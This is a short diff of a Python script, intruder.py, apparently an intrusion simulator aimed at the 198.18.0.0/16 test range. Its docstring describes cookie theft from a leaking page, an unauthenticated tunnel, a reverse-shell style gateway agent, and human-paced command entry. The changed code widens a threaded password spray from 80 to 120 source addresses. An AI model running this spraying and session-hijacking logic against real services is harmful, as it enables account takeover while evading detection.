@@ -3,7 +3,7 @@
 
   intruder.py leak COUNT FILE     asks the leaking page with http.client, one connection each; keeps a cookie it finds
   intruder.py tunnel FILE SECONDS with that cookie, a two-way tunnel at a program's pace; nobody logs in
-  intruder.py spray               80 addresses of 198.18.0.0/16, in as many networks, each tries two passwords
+  intruder.py spray               120 addresses of 198.18.0.0/16, in as many networks, each tries two passwords
   intruder.py lead CERT KEY       on the intruder's server: takes a call and types commands, with a person's pauses
   intruder.py shell               on the gateway: calls there and answers each command
 """
@@ -66,7 +66,7 @@ def spray():
         return post("/login", form, ctx, f"198.18.{net}.9")[0]
 
     tries = [(word, net, "".join(rnd.choices("aeimnorst", k=rnd.randint(4, 12))))
-             for word, net in itertools.product(PASSWORDS, range(80))]
+             for word, net in itertools.product(PASSWORDS, range(120))]
     with concurrent.futures.ThreadPoolExecutor(4) as hands:
         statuses = list(hands.map(attempt, *zip(*tries)))
     print("sprayed:", len(statuses), "answers, let in:", statuses.count(302))
